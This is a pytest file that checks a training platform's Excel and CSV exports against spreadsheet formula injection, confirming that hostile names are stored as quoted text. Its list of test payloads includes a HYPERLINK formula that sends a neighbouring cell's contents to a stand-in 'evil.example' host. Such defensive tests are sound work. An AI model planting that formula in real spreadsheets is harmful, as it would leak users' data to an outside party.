"""Excel formula injection: every export writes its cells through ``core.spreadsheets``, so a hostile
name is read back as the text it was, never as a formula, and is marked as text for Excel."""

import datetime
import io
from decimal import Decimal
from types import SimpleNamespace

import pytest
from django.utils import timezone
from openpyxl import Workbook, load_workbook

from certification.reports import exports as registrar_exports
from certification.reports.selectors import ProgramYear, TraineeRow
from core import spreadsheets
from courses.exams import exports as exam_exports
from courses.practice.reports import CriterionMean, PracticeYear
from courses.questions import exporters
from courses.questions.importers import parse_excel
from courses.questions.importers.base import ParsedQuestion
from courses.questions.models import QuestionType
from courses.questions.schema import validate_data
from courses.records import TraineeRecord, records_workbook

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A2,"点此")',
    "+1",
    "-1+2",
    "@SUM(A1)",
    "\t=1",
    " =1+1",
    "＝1+1",
]


def cells(content: bytes):
    book = load_workbook(io.BytesIO(content))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def assert_neutral(content: bytes, expected: list[str]):
    """No formula anywhere; each hostile text is there, as typed, as a text cell Excel keeps as text."""
    found = cells(content)
    assert [cell.coordinate for cell in found if cell.data_type == "f"] == []
    by_value = {}
    for cell in found:
        by_value.setdefault(cell.value, cell)
    for text in expected:
        assert text in by_value, f"{text!r} not in the file"
        assert by_value[text].data_type == "s"
        assert by_value[text].quotePrefix, f"{text!r} is not marked as text"


@pytest.mark.parametrize("write_only", [False, True])
def test_the_writer_keeps_every_hostile_text_as_text(write_only):
    book = Workbook(write_only=write_only)
    sheet = book.create_sheet("t") if write_only else book.active
    spreadsheets.append_row(sheet, ["Name", "Plain", "Number"], bold=True)
    for text in HOSTILE:
        spreadsheets.append_row(sheet, [text, "技术经理人", -5])
    content = spreadsheets.save(book)
    assert_neutral(content, HOSTILE)
    plain = [cell for cell in cells(content) if cell.value == "技术经理人"]
    assert plain and not any(cell.quotePrefix for cell in plain)  # ordinary text is left alone
    assert [cell.value for cell in cells(content) if cell.data_type == "n"] == [-5] * len(HOSTILE)


def test_csv_cells_get_the_leading_apostrophe():
    hostile = [*HOSTILE, "\r=1", "\n=1"]
    assert spreadsheets.csv_row([*hostile, "张三", -1, None]) == [
        *("'" + text for text in hostile),
        "张三",
        -1,
        None,
    ]


def test_the_trainee_record_workbook():
    records = [
        TraineeRecord(
            user_id=index,
            username=f"u{index}",
            email="a@example.com",
            real_name=name,
            organisation=name,
            phone="",
            identity_document_type="",
            identity_number="",
            identity_number_is_full=False,
        )
        for index, name in enumerate(HOSTILE)
    ]
    assert_neutral(records_workbook(records), HOSTILE)


def test_the_exam_results_workbook():
    now = timezone.now()
    attempts = [
        SimpleNamespace(
            user=SimpleNamespace(get_username=lambda name=name: name, get_full_name=lambda name=name: name),
            number=1,
            get_status_display=lambda: "已完成",
            score=Decimal("1"),
            max_score=Decimal("2"),
            percent=Decimal("50"),
            passed=False,
            started_at=now,
            submitted_at=now,
            submitted_by="trainee",
            get_submitted_by_display=lambda: "学员",
        )
        for name in HOSTILE
    ]
    statistics = [
        {"label": name, "count": 1, "facility": 0.5, "discrimination": None, "upper_lower": None}
        for name in HOSTILE
    ]
    content = exam_exports.results_workbook(
        paper=None,
        attempts=attempts,
        statistics=statistics,
        identity=lambda a: (a.user.get_username(), a.user.get_full_name()),
    )
    assert_neutral(content, HOSTILE)


def test_the_certificate_registry_workbook():
    certificates = [
        SimpleNamespace(
            serial=f"TTA-2026-P-{index:06d}",
            snapshot={"holder_name": name, "hours": "40"},
            user=SimpleNamespace(get_username=lambda name=name: name),
            program=SimpleNamespace(title=name, level=""),
            cohort_id=None,
            status="issued",
            status_reason=name,
            issued_at=timezone.now(),
            expires_at=None,
        )
        for index, name in enumerate(HOSTILE)
    ]
    assert_neutral(registrar_exports.registry_workbook(certificates=certificates), HOSTILE)


def test_the_cohort_report_workbook():
    learning = SimpleNamespace(
        waiting=0,
        rejected=0,
        withdrawn=0,
        hours_required=Decimal(8),
        hours_mean=Decimal(4),
        hours_met=1,
        hours_total=8,
    )
    report = SimpleNamespace(
        cohort=SimpleNamespace(
            code="=C1", title="-班", starts_on=datetime.date(2026, 3, 1), ends_on=datetime.date(2026, 6, 1)
        ),
        learning=learning,
        funnel=lambda: [("报名", 2)],
        sat=1,
        eligible=0,
        certificates_total=0,
    )
    # The report's own row type: every text column it has (the eligibility explanation too) is hostile.
    trainees = [
        TraineeRow(
            username=name,
            name=name,
            email=name,
            status="在读",
            lessons="1/2",
            hours=Decimal(3),
            exam_passed=None,
            certificate_serial="",
            certificate_status="",
            enrolled_at=timezone.now(),
            courses="1/2",
            eligible=False,
            eligibility=name,
        )
        for name in HOSTILE
    ]
    content = registrar_exports.cohort_workbook(report=report, charts=[], trainees=trainees)
    assert_neutral(content, HOSTILE)


def test_the_annual_report_workbook():
    def program_row(title):
        # The report's own row type, with every figure it prints (zero) and a hostile program title.
        return ProgramYear(level="primary", level_label="初级", program=title)

    report = SimpleNamespace(
        year=2026,
        rows=[program_row(name) for name in HOSTILE],
        total=program_row(""),
        hours_by_month=[0] * 12,
        certificates_by_month=[0] * 12,
        # The practical assessments' sheet, with the report's own row types: hostile titles and criteria.
        practice=[
            PracticeYear(
                assignment_id=1,
                title=name,
                title_en=name,
                level="advanced",
                criteria=[CriterionMean(name=name, name_en=name, max_points=Decimal(10), mean=None)],
            )
            for name in HOSTILE
        ],
    )
    content = registrar_exports.annual_workbook(report=report, base_name="=基地", accreditation_number="")
    assert_neutral(content, [*HOSTILE, "=基地"])


def test_a_question_text_starting_with_equals_survives_the_excel_round_trip():
    questions = [
        ParsedQuestion(
            qtype=QuestionType.SHORT_ANSWER,
            name=f"题{index}",
            text=text,
            data=validate_data(
                QuestionType.SHORT_ANSWER, {"answers": [{"text": text.strip(), "fraction": 1}]}
            ),
            location="",
        )
        for index, text in enumerate(["=1+1 等于几？", "+86 是哪国的区号？", "@SUM(A1) 是什么？"])
    ]
    content, skipped = exporters.export_excel(questions)
    assert skipped == []
    assert_neutral(content, [q.text for q in questions])
    result = parse_excel(content)
    assert result.errors == []
    assert [(q.text, q.data) for q in result.questions] == [(q.text, q.data) for q in questions]
